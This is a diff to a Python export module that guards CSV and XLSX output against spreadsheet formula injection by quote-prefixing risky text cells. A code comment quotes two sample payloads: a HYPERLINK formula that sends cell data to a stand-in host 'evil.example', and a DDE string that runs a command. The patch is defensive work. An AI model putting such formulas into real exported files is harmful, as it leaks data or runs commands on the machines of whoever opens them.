@@ -22,6 +22,7 @@ import enum
 import io
 import json
 import os
+import re
 import sys
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, replace
@@ -103,6 +104,21 @@ def text_of(value: Any, kind: Kind, tz: ZoneInfo, *, for_table: bool = False) ->
     return str(value)
 
 
+# --- cells a spreadsheet would run ---------------------------------------------------------
+
+# What a spreadsheet reads as the start of a formula (OWASP's CSV injection guidance): a
+# product named `=HYPERLINK("http://evil.example/?"&A1,"click")` or `@SUM(1+1)*cmd|' /C
+# calc'!A0` would run when the file is opened. A text that is a plain number ("-5") is
+# left alone: a spreadsheet reads it as that number, which runs nothing.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")
+
+
+def runs_as_formula(text: str) -> bool:
+    """Whether a spreadsheet would take this text for a formula."""
+    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)
+
+
 # --- the formats ---------------------------------------------------------------------------
 
 
@@ -157,6 +173,9 @@ class CsvDialect:
     bom: bool  # a UTF-8 byte-order mark first: how Excel knows the file is UTF-8
     day: str  # strftime of a day
     moment: str | None  # strftime of a local time (the zone named in the header); None: ISO with offset
+    # For a spreadsheet: a text cell that would run as a formula gets a leading `'`, which
+    # Excel and LibreOffice read as "this is text". A CSV for scripts keeps every text as is.
+    quote_formulas: bool = False
 
 
 CSV_DIALECTS: dict[CsvDialectName, CsvDialect] = {d.name: d for d in (
@@ -165,7 +184,8 @@ CSV_DIALECTS: dict[CsvDialectName, CsvDialect] = {d.name: d for d in (
     CsvDialect("rfc4180", ",", ".", "\n", bom=False, day="%Y-%m-%d", moment=None),
     # For Excel and LibreOffice in a Belgian locale (nl-BE, fr-BE), opened by double-click:
     # `;` (the list separator there), decimal comma, UTF-8 with a BOM, CRLF, day-first.
-    CsvDialect("excel-be", ";", ",", "\r\n", bom=True, day="%d/%m/%Y", moment="%d/%m/%Y %H:%M:%S"),
+    CsvDialect("excel-be", ";", ",", "\r\n", bom=True, day="%d/%m/%Y", moment="%d/%m/%Y %H:%M:%S",
+               quote_formulas=True),
 )}
 
 
@@ -176,6 +196,9 @@ def heading(column: Column[Any], kind: Kind, tz: ZoneInfo) -> str:
 
 def csv_cell(value: Any, kind: Kind, extract: Extract, dialect: CsvDialect) -> str:
     """A cell of a CSV file in `dialect`."""
+    if kind is Kind.TEXT and dialect.quote_formulas and value is not None:
+        text = text_of(value, kind, extract.tz)
+        return f"'{text}" if runs_as_formula(text) else text
     if value is None or dialect.moment is None:
         return text_of(value, kind, extract.tz)
     if kind is Kind.MOMENT:
@@ -242,7 +265,9 @@ def header_lines(extract: Extract) -> list[tuple[str, str]]:
 def write_xlsx(extract: Extract, out: BinaryIO) -> None:
     """A workbook of one sheet: the header block, then the rows as typed cells (money and
     quantities numbers with two decimals, days dates, times local datetimes with the zone
-    in their heading, text text) under a frozen heading row with a filter."""
+    in their heading, text text) under a frozen heading row with a filter. A text that
+    would run as a formula is a text cell with Excel's quote prefix: shown as is, and still
+    text when a person edits it."""
     import xlsxwriter  # noqa: PLC0415  (50 ms: only for the command that writes one)
 
     columns = extract.columns
@@ -252,10 +277,15 @@ def write_xlsx(extract: Extract, out: BinaryIO) -> None:
         sheet = workbook.add_worksheet(extract.report.name.removeprefix("report_")[:31])
         bold = workbook.add_format({"bold": True})
         formats = {kind: workbook.add_format({"num_format": spec}) for kind, spec in XLSX_FORMATS.items()}
+        quoted = workbook.add_format({"quote_prefix": True})
+
+        def write_text(row: int, col: int, text: str) -> None:
+            sheet.write_string(row, col, text, quoted if runs_as_formula(text) else None)
+
         lines = header_lines(extract)
         for number, (label, text) in enumerate(lines):
             sheet.write_string(number, 0, label, bold)
-            sheet.write_string(number, 1, text)
+            write_text(number, 1, text)
         top = len(lines) + 1  # the heading row, after a blank one
         headings = [heading(c, kind, extract.tz) for c, kind in zip(columns, kinds, strict=True)]
         widths = [len(h) for h in headings]
@@ -277,7 +307,7 @@ def write_xlsx(extract: Extract, out: BinaryIO) -> None:
                     sheet.write_datetime(number, col, dt.datetime.combine(value, dt.time()),
                                          formats[kind])
                 else:
-                    sheet.write_string(number, col, str(value))
+                    write_text(number, col, str(value))
         for col, width in enumerate(widths):
             sheet.set_column(col, col, min(width + 2, XLSX_MAX_WIDTH))
         sheet.freeze_panes(top + 1, 0)
